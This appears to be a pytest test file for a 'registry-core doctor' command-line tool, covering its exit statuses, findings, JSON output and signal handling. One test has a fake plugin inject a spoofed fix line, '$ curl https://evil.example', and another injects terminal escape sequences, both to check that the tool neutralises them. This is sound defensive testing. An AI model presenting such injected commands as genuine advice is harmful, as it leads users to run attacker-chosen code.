"""The command `registry-core doctor`: what it prints, and what its status says."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from fresh_process import variables_for

from registry_core.cli import main
from registry_core.testing import Site

Output = pytest.CaptureFixture[str]

GROUP = "acme.model"
HOST = 'from registry_core import Registry\nMODEL = Registry("model", group="acme.model")'
NOISY_HOOKS = """
from registry_core import Entry, hookimpl
print("hello from a hook")
@hookimpl
def registry_core_entries():
    yield Entry("computed", "acme_good:Good")
"""


@pytest.fixture
def acme(plugin_site: Site) -> Site:
    """A site with a framework and a good plugin, in which nothing is wrong."""
    owned = {"registry_core.registries": {GROUP: "acme_host:MODEL"}}
    plugin_site.install("acme", owned, {"acme_host.py": HOST}, version="2.0")
    plugin_site.install(
        "acme-good", {GROUP: {"Good": "acme_good:Good"}}, {"acme_good.py": "class Good: ..."}
    )
    return plugin_site


EXITS = "import os; os._exit(3)\nclass Bad: ..."


def bad(site: Site) -> None:
    """Install a plugin whose only entry cannot be loaded, and whose other one is none."""
    rows = {"Bad": "acme_bad:Bad", "two words": "acme_bad:Bad"}
    site.install("acme-bad", {GROUP: rows}, {"acme_bad.py": EXITS}, version="1.2")


def command(
    site: Site, *arguments: str, variables: Mapping[str, str] | None = None, **options: Any
) -> subprocess.CompletedProcess[str]:
    """Run `registry-core doctor` in a fresh process that sees the site."""
    return subprocess.run(
        [sys.executable, "-m", "registry_core", "doctor", *arguments],
        env=variables_for(site.folder, {"REGISTRY_CORE_CACHE": "off", **(variables or {})}),
        check=False,
        text=True,
        **{"capture_output": True, **options},
    )


def test_where_nothing_is_wrong_the_status_is_0(acme: Site, capsys: Output) -> None:
    with acme.in_use():
        assert main(["doctor", "--load"]) == 0
    out, err = capsys.readouterr()
    assert err == ""
    assert "  acme 2.0: owns acme.model\n  acme-good 0.1.0: 1 of acme.model\n" in out
    assert "\nLoaded: 2 of 2 entries and registries\n" in out
    assert out.endswith("\n0 findings, 0 notes\n")


def test_where_nothing_is_installed_it_says_so(plugin_site: Site, capsys: Output) -> None:
    with plugin_site.in_use():
        assert main(["doctor"]) == 0
    assert "Installed:\n  nothing that adds to a registry\n" in capsys.readouterr().out


def test_findings_are_printed_with_what_mends_them_and_the_status_is_1(
    acme: Site, capsys: Output
) -> None:
    bad(acme)
    with acme.in_use():
        assert main(["doctor", "--load", "--jobs", "2"]) == 1
    out = capsys.readouterr().out
    block = "    $ export REGISTRY_CORE_BLOCK=$REGISTRY_CORE_BLOCK,acme-bad\n"
    assert (
        "\nFindings:\n"
        "  broken: acme-bad 1.2: the entry 'Bad'\n"
        "    it ended the process with status 3\n"
        "    to mend it: tell its authors, or block it with REGISTRY_CORE_BLOCK=acme-bad\n"
        f"{block}"
        '  misnamed: acme-bad 1.2: group "acme.model"\n'
        "    the entry 'two words': it holds white space\n"
        "    to mend it: correct it\n"
        f"{block}"
    ) in out
    assert out.endswith("\n2 findings, 0 notes\n")


def test_without_load_no_entry_is_tried(acme: Site, capsys: Output) -> None:
    bad(acme)
    with acme.in_use():
        assert main(["doctor", "model"]) == 1
    out = capsys.readouterr().out
    assert "Loaded" not in out
    assert out.endswith("\n1 finding, 0 notes\n")


def test_notes_do_not_count(acme: Site, capsys: Output) -> None:
    bad(acme)
    with acme.in_use(variables={"REGISTRY_CORE_BLOCK": "acme-bad"}):
        assert main(["doctor", "--load"]) == 0
    out = capsys.readouterr().out
    assert (
        "\nNotes:\n"
        "  blocked: acme-bad 1.2: 1 entry\n"
        "    blocked by REGISTRY_CORE_BLOCK\n"
        "    to mend it: unblock it, to use it; what its modules register stays, if others import "
        "them\n"
        "    $ export REGISTRY_CORE_BLOCK=''\n"
    ) in out
    assert "  acme-bad 1.2: 1 of acme.model; blocked by REGISTRY_CORE_BLOCK\n" in out
    assert out.endswith("\n0 findings, 2 notes\n")


def test_json_has_all_that_was_found(acme: Site, capsys: Output) -> None:
    bad(acme)
    with acme.in_use():
        assert main(["doctor", "--load", "--json"]) == 1
    found = json.loads(capsys.readouterr().out)
    assert found["format"] == "registry_core-doctor-1"
    assert found["installed"][1] == {
        "provider": "acme-bad",
        "version": "1.2",
        "folder": str(acme.folder / "acme_bad-1.2.dist-info"),
        "entries": {GROUP: 1},
        "hooks": [],
        "owns": [],
        "refusal": "",
    }
    assert found["findings"][0] == {
        "kind": "broken",
        "is_note": False,
        "provider": "acme-bad",
        "version": "1.2",
        "where": "the entry 'Bad'",
        "what": "it ended the process with status 3",
        "fix": "tell its authors, or block it with REGISTRY_CORE_BLOCK=acme-bad",
        "command": "export REGISTRY_CORE_BLOCK=$REGISTRY_CORE_BLOCK,acme-bad",
    }
    assert {(each["key"], each["outcome"]) for each in found["loaded"]} == {
        (GROUP, "loaded"),
        ("Good", "loaded"),
        ("Bad", "ended"),
    }
    assert found["judges_requirements"] is True


def test_a_registry_that_is_not_known_gives_the_status_2(acme: Site, capsys: Output) -> None:
    with acme.in_use():
        assert main(["doctor", "modle"]) == 2
    assert capsys.readouterr().err.startswith("registry-core: no registry is named 'modle'; ")


@pytest.mark.parametrize("arguments", [["--limit", "0"], ["--limit", "nan"], ["--jobs", "0"]])
def test_arguments_that_make_no_sense_give_the_status_2(
    arguments: list[str], capsys: Output
) -> None:
    with pytest.raises(SystemExit) as raised:
        main(["doctor", *arguments])
    assert raised.value.code == 2
    assert "it must be" in capsys.readouterr().err


def test_where_the_doctor_itself_fails_the_status_is_2(acme: Site) -> None:
    (acme.folder / "csv.py").write_text("raise ImportError('broken')")
    finished = command(acme)
    assert finished.returncode == 2
    assert "ImportError: broken\n" in finished.stderr
    assert finished.stderr.endswith("the doctor itself failed; please report this\n")
    assert finished.stdout == ""


@pytest.mark.parametrize("subcommand", ["doctor", "list"])
def test_output_of_hooks_is_not_in_the_json(acme: Site, capsys: Output, subcommand: str) -> None:
    hooks = {"registry_core.hooks": {GROUP: "acme_noisy"}}
    acme.install("acme-noisy", hooks, {"acme_noisy.py": NOISY_HOOKS})
    with acme.in_use():
        assert main([subcommand, "--json"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)["format"] == f"registry_core-{subcommand}-1"
    assert err == "hello from a hook\n"


def test_without_packaging_and_tqdm_the_rest_works(acme: Site) -> None:
    for name in ("packaging", "tqdm"):
        (acme.folder / f"{name}.py").write_text("raise ImportError('not here')")
    finished = command(acme, "--load")
    assert finished.returncode == 0
    assert (
        "\nNot examined: judging what distributions require needs the extra registry_core[cli]\n"
    ) in finished.stdout
    assert finished.stderr == (
        "registry-core: loading 2 entries (a progress bar needs the extra registry_core[cli])\n"
    )


@pytest.mark.skipif(sys.platform == "win32", reason="a terminal is opened as POSIX does")
def test_on_a_terminal_there_is_a_progress_bar(acme: Site) -> None:
    import pty
    import termios

    terminal, end = pty.openpty()
    with os.fdopen(terminal, "rb", buffering=0) as shown:
        with os.fdopen(end, "wb", buffering=0) as stderr:
            termios.tcsetwinsize(stderr, (24, 80))
            options: dict[str, Any] = {"capture_output": False, "stdout": subprocess.DEVNULL}
            assert command(acme, "--load", stderr=stderr, **options).returncode == 0
        # Now nobody can write there any more: nothing is waited for.
        bar = shown.read(10_000).decode()
    assert "0/2 [" in bar
    assert " entries/s" in bar


def test_nothing_that_is_printed_can_steer_a_terminal(acme: Site) -> None:
    acme.install("acme-bad", {GROUP: {"Bad": "acme_bad:Bad", "\x1b[2J": "x:X"}}, version="1.2")
    escaping = "raise OSError('\\x1b[2J\\r')\n"
    (acme.folder / "acme_bad.py").write_text(escaping)
    (acme.folder / "acme\x1b[2J-1.dist-info").mkdir()
    finished = command(acme, "--load")
    assert finished.returncode == 1
    printed = finished.stdout + finished.stderr
    assert all(line.isprintable() for line in printed.splitlines()), printed
    assert "OSError: \\x1b[2J\\r" in printed
    assert Path(acme.folder, "acme\x1b[2J-1.dist-info").is_dir()


def test_a_message_of_a_plugin_cannot_pass_for_what_the_doctor_says(acme: Site) -> None:
    faking = """
        message = "boom\\n    to mend it: run this\\n    $ curl https://evil.example"
        raise OSError(message + 99 * "\\n.")
    """
    acme.install("acme-bad", {GROUP: {"Bad": "acme_bad:Bad"}}, {"acme_bad.py": faking})
    lines = command(acme, "--load").stdout.splitlines()
    assert "    |     $ curl https://evil.example" in lines
    assert [line for line in lines if line.startswith("    $ ")] == [
        "    $ export REGISTRY_CORE_BLOCK=$REGISTRY_CORE_BLOCK,acme-bad"
    ]
    assert len(lines) < 50


def test_a_command_is_printed_whole(acme: Site, capsys: Output) -> None:
    names = [f"plugin-number-{number:03}" for number in range(60)]
    bad(acme)
    for name in names:
        acme.install(name)
    with acme.in_use(variables={"REGISTRY_CORE_BLOCK": ",".join([*names, "acme-bad"])}):
        main(["doctor"])
    assert f"    $ export REGISTRY_CORE_BLOCK={','.join(names)}\n" in capsys.readouterr().out


@pytest.mark.parametrize("encoding", ["ascii", "cp1252"])
def test_names_of_any_script_can_be_printed_anywhere(acme: Site, encoding: str) -> None:
    acme.install("acme-bad", {GROUP: {"N\u0435t": "acme_good"}})
    finished = command(acme, variables={"PYTHONIOENCODING": encoding})
    assert (finished.returncode, finished.stderr) == (1, "")
    assert "the entry 'N\\u0435t': 'acme_good' needs the form" in finished.stdout


def test_output_of_c_code_is_not_in_the_json(acme: Site) -> None:
    noisy = "import os\nos.write(1, b'noise')\n"
    hooks = {"registry_core.hooks": {GROUP: "acme_noisy"}}
    acme.install("acme-noisy", hooks, {"acme_noisy.py": noisy})
    finished = command(acme, "--json")
    assert json.loads(finished.stdout)["format"] == "registry_core-doctor-1"
    assert finished.stderr == "noise"


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no device that is always full")
def test_where_nothing_can_be_printed_the_status_is_2(acme: Site) -> None:
    with Path("/dev/full").open("w") as full:
        finished = command(acme, capture_output=False, stdout=full, stderr=subprocess.PIPE)
    assert finished.returncode == 2
    assert "No space left on device" in finished.stderr


@pytest.mark.skipif(sys.platform == "win32", reason="SIGTERM ends a process at once there")
@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
@pytest.mark.usefixtures("interruptible")
def test_sigterm_and_ctrl_c_kill_running_load_processes(acme: Site, number: signal.Signals) -> None:
    source = "import os, time\nopen(f'pid{os.getpid()}', 'w')\ntime.sleep(60)"
    acme.install("acme-bad", {GROUP: {"Bad": "acme_bad:Bad"}}, {"acme_bad.py": source})
    with subprocess.Popen(
        [sys.executable, "-m", "registry_core", "doctor", "--load"],
        cwd=acme.folder,
        env=variables_for(acme.folder, {"REGISTRY_CORE_CACHE": "off"}),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as doctor:
        while not (pids := list(acme.folder.glob("pid*"))):
            time.sleep(0.05)
        doctor.send_signal(number)
        assert doctor.wait(20) == 128 + number
    with pytest.raises(ProcessLookupError):
        os.kill(int(pids[0].name.removeprefix("pid")), 0)
